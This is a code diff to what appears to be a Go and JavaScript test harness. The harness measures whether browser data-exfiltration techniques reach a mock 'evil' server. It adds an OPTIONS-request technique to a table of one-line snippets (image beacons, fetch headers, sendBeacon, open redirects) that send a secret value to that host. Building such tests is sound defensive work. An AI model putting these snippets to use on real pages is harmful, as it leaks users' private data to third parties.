@@ -62,7 +62,7 @@ func (e *evilSite) serve(w http.ResponseWriter, r *http.Request) {
 		}
 	}
 	name, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/t/"), "/")
-	if carried && r.Method != http.MethodOptions {
+	if carried && (r.Method != http.MethodOptions || r.Header.Get("Access-Control-Request-Method") == "") {
 		e.mu.Lock()
 		e.hits[name]++
 		e.mu.Unlock()
@@ -72,7 +72,7 @@ func (e *evilSite) serve(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Access-Control-Allow-Credentials", "true")
 	}
 	if r.Method == http.MethodOptions {
-		w.Header().Set("Access-Control-Allow-Methods", "GET, POST, PUT")
+		w.Header().Set("Access-Control-Allow-Methods", "GET, POST, PUT, OPTIONS")
 		w.Header().Set("Access-Control-Allow-Headers", r.Header.Get("Access-Control-Request-Headers"))
 		w.WriteHeader(http.StatusNoContent)
 		return
@@ -165,6 +165,7 @@ const T = {
   path: () => { new Image().src = B + '/t/path/' + S; },
   name: () => { new Image().src = 'http://' + L + '.localhost:' + P + '/t/name'; },
   header: () => fetch(B + '/t/header', {headers: {'X-Data': S}}),
+  options: () => fetch(B + '/t/options?d=' + S, {method: 'OPTIONS'}),
   accept: () => fetch(B + '/t/accept', {mode: 'no-cors', headers: {Accept: S.slice(0, 100)}}),
   redirect307: () => navigator.sendBeacon('/r307?to=' + E(B + '/t/redirect307'), S),
   openredirect: () => { new Image().src = '/redir?to=' + E(B + '/t/openredirect?d=' + S); },
@@ -240,7 +241,7 @@ func techniques() []technique {
 		return out
 	}
 	ts := plain("img", "fetch", "xhr", "navigate", "formget", "iframe", "popup", "meta", "css", "font", "prefetch",
-		"preload", "linkheader", "sse", "script", "worker", "shared", "beacon", "post", "formpost", "header", "accept",
+		"preload", "linkheader", "sse", "script", "worker", "shared", "beacon", "post", "formpost", "header", "options", "accept",
 		"redirect307", "openredirect", "frag", "popupfrag", "selfremove")
 	ts = append(ts,
 		technique{name: "spec", mayNotSend: true},
